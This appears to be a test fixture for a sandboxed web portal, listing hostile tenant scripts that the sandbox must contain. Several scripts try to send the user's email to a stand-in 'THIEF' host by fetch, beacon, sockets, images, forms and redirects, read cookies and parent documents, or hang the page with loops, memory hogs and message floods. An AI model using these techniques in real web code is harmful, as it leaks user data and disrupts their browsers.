// Hostile and faulty scripts of a tenant, published like any other module script. `THIEF` is the address of a listening server: a
// request that reaches it is a leak.

import { closedApis, harmlessMistakes, leakyScripts, leavingScripts } from './leaky-scripts.ts';

/** Tries one thing and records the result. */
const attempts = `
  const found = [];
  const attempt = async (name, work) => {
    try {
      const value = await work();
      found.push(name + ': ' + (value === undefined || value === null || value === '' ? 'nothing' : 'GOT ' + String(value).slice(0, 80)));
    } catch (error) {
      found.push(name + ': refused');
    }
  };
  const tell = () => portal.root.replaceChildren(...found.map((line) => portal.kit.element('p', {}, line)), portal.kit.element('p', {}, 'done'));
`;

const asModule = (body: string): string => `export default async function start(portal) {${body}}`;

export const hostileScripts: Readonly<Record<string, string>> = {
  ...leakyScripts,
  ...leavingScripts,
  ...closedApis,
  ...harmlessMistakes,
  /** Looks for the session, the page of the portal, its storage and leftovers of the runtime. */
  leitor: asModule(`${attempts}
    await attempt('cookie', () => document.cookie);
    await attempt('localStorage', () => localStorage.length);
    await attempt('sessionStorage', () => sessionStorage.length);
    await attempt('indexedDB', () => new Promise((resolve, reject) => { const open = indexedDB.open('x'); open.onsuccess = () => resolve('opened'); open.onerror = () => reject(new Error('no')); }));
    await attempt('caches', () => caches.keys().then((keys) => 'keys ' + keys.length));
    await attempt('parent document', () => parent.document.documentElement.outerHTML);
    await attempt('parent storage', () => parent.localStorage.getItem('code'));
    await attempt('parent location', () => parent.location.href);
    await attempt('top document', () => top.document.cookie);
    await attempt('frame element', () => window.frameElement);
    await attempt('opener', () => window.opener);
    await attempt('service worker', () => navigator.serviceWorker.register('/assets/x.js').then(() => 'registered'));
    await attempt('broadcast', () => new Promise((resolve) => { const channel = new BroadcastChannel('x'); channel.onmessage = () => resolve('heard'); setTimeout(resolve, 100); }));
    await attempt('code in context', () => /code|token|select /i.test(JSON.stringify(portal.context).replace(/"entities".*?\\]/, '')) ? JSON.stringify(portal.context) : '');
    await attempt('peer connection', () => typeof RTCPeerConnection === 'undefined' ? '' : 'there');
    await attempt('window.open', () => window.open('about:blank'));
    await attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'video'));
    await attempt('place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('there'), reject)));
    tell();
  `),

  /** Sends data by every API of a page. */
  ladrao: asModule(`${attempts}
    const secret = '?segredo=' + encodeURIComponent(portal.context.user.email);
    const element = (tag, properties) => new Promise((resolve, reject) => {
      const made = Object.assign(document.createElement(tag), properties);
      made.onload = () => resolve('loaded');
      made.onerror = () => reject(new Error('no'));
      document.body.append(made);
      setTimeout(() => reject(new Error('late')), 700);
    });
    await attempt('fetch', () => fetch('THIEF/fetch' + secret, { mode: 'no-cors' }).then(() => 'sent'));
    await attempt('fetch own origin', () => fetch(new URL('/api/auth/v1/session/app/hostil/user/session', document.baseURI)).then((r) => r.text()));
    await attempt('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.open('GET', 'THIEF/xhr' + secret); x.onload = () => resolve('sent'); x.onerror = () => reject(new Error('no')); x.send(); }));
    await attempt('beacon', () => { navigator.sendBeacon('THIEF/beacon' + secret, 'x'); });
    await attempt('socket', () => new Promise((resolve, reject) => { const s = new WebSocket('THIEF/socket'.replace('http', 'ws')); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('no')); }));
    await attempt('events', () => new Promise((resolve, reject) => { const s = new EventSource('THIEF/events'); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('no')); }));
    await attempt('image', () => element('img', { src: 'THIEF/image' + secret }));
    await attempt('script', () => element('script', { src: 'THIEF/script' + secret }));
    await attempt('video', () => element('video', { src: 'THIEF/video' + secret }));
    await attempt('object', () => element('object', { data: 'THIEF/object' + secret }));
    await attempt('css', () => { document.body.style.backgroundImage = 'url(THIEF/css' + secret + ')'; });
    await attempt('font', () => new FontFace('x', 'url(THIEF/font' + secret + ')').load().then(() => 'loaded'));
    await attempt('import', () => import('THIEF/import' + secret).then(() => 'loaded'));
    await attempt('worker', () => new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("THIEF/worker").then(() => postMessage("sent"), () => postMessage(""))']))); w.onmessage = (e) => resolve(e.data); w.onerror = () => reject(new Error('no')); }));
    await attempt('top navigation', () => { top.location.href = 'THIEF/top' + secret; });
    await attempt('undeclared query', () => portal.sql.run('folha-de-pagamento'));
    tell();
  `),

  /** Never finishes its first line. */
  'trava-ao-abrir': 'for (;;) { Math.random(); }',

  /** Works until a button is pressed. */
  'trava-depois': asModule(`
    portal.kit.page({ title: 'Módulo' }, portal.kit.button('Travar', () => { portal.ui.title('Travado'); for (;;) Math.random(); }));
  `),

  /** Allocates 200 MB when a button is pressed, uses every page of them and keeps them. */
  glutao: asModule(`
    const taken = [];
    portal.kit.page({ title: 'Módulo' }, portal.kit.button('Ocupar', () => {
      taken.push(new Uint8Array(200 * 2 ** 20).fill(1));
      portal.kit.page({ title: 'Ocupados ' + taken[0].length / 2 ** 20 + ' MB' });
    }));
  `),

  /** Sends the portal 50 MB in one message. */
  'glutao-na-janela': asModule(`
    portal.kit.page({ title: 'Módulo' }, portal.kit.button('Dizer', () => {
      parent.postMessage({ kind: 'log', level: 'info', text: 'x'.repeat(50 * 2 ** 20) }, '*');
      portal.kit.page({ title: 'Disse 50 MB' });
    }));
  `),

  /** Sends the portal a message of many objects, again and again and below the allowed number of messages. */
  'trava-a-pagina': asModule(`
    const big = Array.from({ length: 400_000 }, (_, index) => ({ index, text: 'x' + index }));
    setInterval(() => parent.postMessage({ big }, '*'), 700);
  `),

  /** Sends the portal 100,000 objects once, as a module that saves them does. */
  'guarda-muito': asModule(`
    const values = Array.from({ length: 100_000 }, (_, index) => ({ index, text: 'x' + index }));
    portal.customValue.save(values).catch((error) => portal.ui.title(error.code));
  `),

  /** Calls the portal as fast as possible over its port. */
  enxurrada: asModule(`
    portal.kit.page({ title: 'Módulo' });
    const call = () => { for (let i = 0; i < 500; i += 1) portal.ui.title('x' + i).catch(() => undefined); setTimeout(call); };
    call();
  `),

  /** The same over the window, on which the portal expects no message. */
  'enxurrada-na-janela': asModule(`
    portal.kit.page({ title: 'Módulo' });
    const shout = () => { for (let i = 0; i < 500; i += 1) parent.postMessage({ kind: 'log', level: 'info', text: 'x' }, '*'); setTimeout(shout); };
    shout();
  `),

  /** Navigates to another site, with the e-mail of the person in the address. */
  fujao: asModule(`location.href = 'THIEF/away?segredo=' + encodeURIComponent(portal.context.user.email);`),

  /** The same by a `meta` refresh. */
  'fujao-pela-cabeca': asModule(`
    portal.kit.page({ title: 'Módulo' });
    document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=THIEF/meta?segredo=1' }));
  `),

  /** Submits a form to another site. */
  'fujao-por-formulario': asModule(`
    portal.kit.page({ title: 'Módulo' });
    const form = Object.assign(document.createElement('form'), { action: 'THIEF/form', method: 'post' });
    form.append(Object.assign(document.createElement('input'), { name: 'segredo', value: portal.context.user.email }));
    document.body.append(form);
    form.submit();
  `),

  /** Reloads itself to start again. */
  'recarrega-se': asModule(`location.reload();`),

  /** Announces itself as a new frame, to get a second port. */
  impostor: asModule(`parent.postMessage({ kind: 'ready', version: 1 }, '*');`),

  /** Forges messages that are allowed on the port alone. */
  falsario: asModule(`
    for (const message of [{ kind: 'call', id: 1, method: 'ui.close', request: {} }, { kind: 'started' }, null, 7, 'ready', { kind: 'ready', version: 'x' }, { kind: { toString: 1 } }])
      parent.postMessage(message, '*');
    portal.kit.page({ title: 'Ainda aqui' });
  `),

  'erros-em-serie': asModule(`
    portal.kit.page({ title: 'Módulo' });
    setInterval(() => { throw new Error('de novo'); }, 5);
  `),
  'erro-ao-abrir': asModule(`throw new Error('não começou');`),
  'erro-de-sintaxe': 'export default function start(portal) {',
  'sem-start': 'export const nada = 1;',
  'importa-de-fora': `import 'THIEF/pacote.js'; export default function start() {}`,

  /** Requests undeclared queries repeatedly. */
  bisbilhoteiro: asModule(`
    portal.kit.page({ title: 'Módulo' });
    for (const id of ['folha-de-pagamento', 'usuarios', 'senhas']) await portal.sql.run(id).catch(() => undefined);
  `),

  /** Asks for the palette of the portal by keys that nobody pressed. */
  insistente: asModule(`
    portal.kit.page({ title: 'Módulo' }, portal.kit.button('Insistir', async () => {
      const keys = { key: 'k', ctrlKey: true, metaKey: true };
      for (let turn = 0; turn < 5; turn += 1) dispatchEvent(new KeyboardEvent('keydown', keys));
      await portal.ui.title('Insistiu');
    }));
  `),

  /** Covers the page with notices. */
  tagarela: asModule(`
    portal.kit.page({ title: 'Módulo' });
    for (let turn = 0; turn < 150; turn += 1) await portal.ui.notify(turn + ' ' + 'W'.repeat(290), 'bad');
    await portal.ui.title('Avisou');
  `),

  /** Adds entries to the history of the browser. */
  'enche-historico': asModule(`
    const left = ['pushState', 'replaceState', 'go', 'back', 'forward'].filter((name) => name in history);
    if (left.length > 0) throw new Error('there: ' + left);
    addEventListener('hashchange', (event) => event.stopImmediatePropagation(), { capture: true });
    for (let turn = 0; turn < 60; turn += 1) location.hash = 'h' + turn;
  `),

  /** Takes the focus again and again, also while a dialog of the portal covers it. */
  'rouba-teclas': asModule(`
    portal.kit.page({ title: 'Módulo' });
    const field = portal.root.appendChild(document.createElement('input'));
    setInterval(() => { window.focus(); field.focus(); }, 50);
  `),

  /** Closes its item when the person has left its frame, as for a menu or dialog of the portal. */
  'fecha-por-tras': asModule(`
    portal.kit.page({ title: 'Módulo' }, portal.kit.button('Apertar', () => undefined));
    addEventListener('blur', () => portal.ui.close(), { once: true });
  `),

  /** Two items that open each other, until the portal refuses it. */
  vai: asModule(`setTimeout(() => portal.ui.open('ataques', 'volta').catch(({ code }) => portal.ui.title(code)), 10);`),
  volta: asModule(`setTimeout(() => portal.ui.open('ataques', 'vai').catch(({ code }) => portal.ui.title(code)), 10);`),

  /** A working script of the same tenant: the portal must still open it after any of the others. */
  honesto: asModule(`portal.kit.page({ title: 'Tudo certo', subtitle: portal.context.user.email });`),
};
